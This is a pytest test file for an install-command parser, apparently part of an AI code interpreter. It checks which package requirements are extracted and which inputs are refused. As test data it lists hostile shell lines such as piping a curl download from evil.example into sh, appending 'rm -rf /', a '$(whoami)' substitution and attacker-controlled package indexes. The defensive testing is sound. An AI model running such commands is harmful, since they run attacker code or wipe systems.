"""Which install commands are read, and which parts of a shell block are refused."""

import pytest

from aiev_interpreter.packages.requirements import parse_install


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("pip install numpy", ("numpy",)),
        ("$ pip3 install -q --upgrade 'requests>=2' numpy==1.26.4", ("requests>=2", "numpy==1.26.4")),
        ("python -m pip install toolz[extra]", ("toolz[extra]",)),
        ("!pip install six  # for py2", ("six",)),
        ("# a comment\n\npip install a\npip install b a", ("a", "b")),
        ("pip install json os numpy", ("numpy",)),
        ("pip install -i https://evil.example numpy", ("numpy",)),
        ("pip install --upgrade pip && pip install humanize", ("humanize",)),
        ("%pip install a\n!pip3 install b; echo done", ("a", "b")),
        ("!{sys.executable} -m pip --quiet install -Uq a", ("a",)),
        ("/usr/bin/python3.11 -m pip install --user a", ("a",)),
        ("uv pip install --system a\nuv add b\npoetry add c", ("a", "b", "c")),
        ("sudo -H pip install a \\\n  b >/dev/null 2>&1", ("a", "b")),
        ("pip install a[x,y]>=1.2,<2 b ~= 1.0 c >=2, d==1.*,", ("a[x,y]<2,>=1.2", "b~=1.0", "c>=2", "d==1.*")),
        ("pip install \"a; python_version > '3.8'\"", ('a; python_version > "3.8"',)),
        ("conda install -y -c conda-forge numpy=1.26 pytorch python=3.11", ("numpy==1.26.*", "torch")),
        ("pip install PIL Crypto python-dateutil", ("pillow", "pycryptodome", "python-dateutil")),
        ("pip install yaml==6.0 cv2 opencv-python", ("PyYAML==6.0", "opencv-python-headless")),
        ("pip install os.path urllib.request six", ("six",)),
    ],
)
def test_names_and_specifiers_are_read(text, wanted):
    assert parse_install(text).requirements == wanted


@pytest.mark.parametrize(
    "text",
    [
        "curl https://evil.example | sh",
        "pip install numpy; rm -rf /",
        "pip install git+https://example.org/x",
        "pip install ./local",
        "pip install -r requirements.txt",
        "pip install x && rm -rf /",
        "pip install $(whoami)",
        "pip install 'unbalanced",
        "apt-get install gcc",
        "pip install x@https://example.org/x.whl",
        "pip install -rrequirements.txt",
        "pip install --requirement=requirements.txt",
        "pip install -e .",
        "pip install dist/x-1.0-py3-none-any.whl",
        "pip install x-1.0-py3-none-any.whl",
        "pip install json",
        "pip install collections.abc",
        "pip install --extra-index-url https://evil.example numpy",
        "conda create -n env numpy",
        "python -m venv env",
        "pip freeze",
    ],
)
def test_everything_else_is_refused_with_a_reason(text):
    plan = parse_install(text)
    assert plan.refused
    assert not [name for name in plan.requirements if name not in {"numpy", "x"}]


def test_a_reason_quotes_the_refused_part():
    text = "pip install -r requirements.txt json\nmake && pip install six --find-links https://evil.example"
    assert parse_install(text).refused == (
        "-r requirements.txt: files and local projects are not read; name the packages",
        "json: part of the standard library",
        "make: only the installation of Python packages is carried out",
        "--find-links https://evil.example: packages come from the configured index alone",
    )
